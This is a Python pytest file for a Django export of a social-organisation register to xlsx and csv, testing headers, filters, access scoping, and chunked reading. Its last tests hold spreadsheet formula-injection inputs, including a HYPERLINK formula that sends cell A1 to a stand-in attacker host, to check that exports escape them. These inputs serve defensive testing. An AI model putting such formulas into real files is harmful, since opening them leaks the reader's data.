"""Export of the filtered list: .xlsx re-read with openpyxl, .csv with a BOM; scoped; same filters."""

import csv
import io
from datetime import date, datetime

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cso.orgs import exports

from .factories import FOREIGN_COMMUNITY, make_filed, make_registered

EXPORT = reverse("orgs:export")
HEADERS = ["组织标识", "名称", "统一社会信用代码", "管理方式", "组织类型", "管理层级", "社区社会组织", "枢纽型组织",
           "所在区划代码", "所在区划", "登记管理机关", "业务主管单位", "业务范围", "登记日期", "备案日期", "成立日期",
           "类别", "服务对象", "成员数", "注册资金（元）", "财务托管（代管）", "住所", "活动场所", "孵化基地", "联系人",
           "联系电话", "党建情况", "标签", "负责人姓名", "负责人职务", "负责人身份证号", "负责人电话",
           "负责人是否中共党员", "其他负责人", "状态"]


@pytest.fixture
def orgs(cast):
    return {
        "elderly": make_registered(cast["registrar"], name="兴宁区老年协会", categories=["life_service", "charity"],
                                   service_targets=["elderly"], contact_phone="13812345678"),
        "dance": make_filed(cast["street"], name="北宁社区广场舞队", division="450102001004"),
        "foreign": make_filed(cast["superuser"], name="新竹社区老年协会", division=FOREIGN_COMMUNITY),
    }


def read_xlsx(response):
    content = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(content), read_only=True).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def read_csv(response):
    content = b"".join(response.streaming_content)
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_the_xlsx_export_has_chinese_headers_typed_cells_and_only_visible_rows(orgs, cast, login):
    response = login(cast["county"]).get(EXPORT, {"format": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    rows = read_xlsx(response)
    assert rows[0] == HEADERS
    by_name = {r[1]: dict(zip(HEADERS, r, strict=True)) for r in rows[1:]}
    assert set(by_name) == {"兴宁区老年协会", "北宁社区广场舞队"}
    elderly = by_name["兴宁区老年协会"]
    assert elderly["统一社会信用代码"] == orgs["elderly"].credit_code
    assert elderly["类别"] == "生活服务、公益慈善"
    assert elderly["服务对象"] == "老年人"
    assert elderly["管理方式"] == "登记（法人类）"
    assert elderly["状态"] == "正常"
    assert elderly["所在区划代码"] == "450102001003"
    assert isinstance(elderly["登记日期"], datetime) and elderly["登记日期"].date() == date(2020, 5, 1)
    assert elderly["注册资金（元）"] == 5000
    assert elderly["联系电话"] == "13812345678"


def test_the_csv_export_is_utf8_with_bom_and_follows_the_filters(orgs, cast, login):
    client = login(cast["county"])
    rows = read_csv(client.get(EXPORT, {"format": "csv", "track": "filed"}))
    assert rows[0] == HEADERS
    assert [r[1] for r in rows[1:]] == ["北宁社区广场舞队"]
    assert rows[1][HEADERS.index("备案日期")] == "2021-03-01"
    rows = read_csv(client.get(EXPORT, {"format": "csv", "q": "lnxh"}))
    assert [r[1] for r in rows[1:]] == ["兴宁区老年协会"]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_an_outsider_exports_only_its_own_rows(orgs, cast, login, fmt):
    client = login(cast["outsider_county"])
    for query in ({}, {"division": "450102"}, {"q": "兴宁"}):
        response = client.get(EXPORT, {"format": fmt, **query})
        rows = read_xlsx(response) if fmt == "xlsx" else read_csv(response)
        names = {r[1] for r in rows[1:]}
        assert names <= {"新竹社区老年协会"}
        assert "兴宁区老年协会" not in names and "北宁社区广场舞队" not in names


def test_an_unknown_format_is_a_404(cast, login):
    assert login(cast["county"]).get(EXPORT, {"format": "pdf"}).status_code == 404


def test_rows_are_read_in_chunks(orgs, cast):
    from cso.orgs.models import Organization

    rows = list(exports.iter_rows(Organization.objects.order_by("name"), chunk_size=1))
    assert [r[1] for r in rows] == sorted(["兴宁区老年协会", "北宁社区广场舞队", "新竹社区老年协会"])
    column = HEADERS.index("类别")
    assert rows[1][column] == "生活服务、公益慈善" or rows[0][column] == "生活服务、公益慈善"


FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


@pytest.mark.parametrize("name", [FORMULA_NAME, "+兴宁区老年协会", "-1+2 协会", "@SUM(A1) 协会"])
def test_a_name_that_begins_like_a_formula_is_exported_to_csv_as_text(cast, login, name):
    make_filed(cast["street"], name=name, contact_name="=1+1")
    rows = read_csv(login(cast["county"]).get(EXPORT, {"format": "csv"}))
    names = [r[1] for r in rows[1:]]
    assert names == ["'" + name]
    assert rows[1][HEADERS.index("联系人")] == "'=1+1"


def test_a_name_that_begins_like_a_formula_is_a_text_cell_in_the_xlsx_export(cast, login):
    make_filed(cast["street"], name=FORMULA_NAME)
    rows = read_xlsx(login(cast["county"]).get(EXPORT, {"format": "xlsx"}))
    assert rows[1][1] == FORMULA_NAME
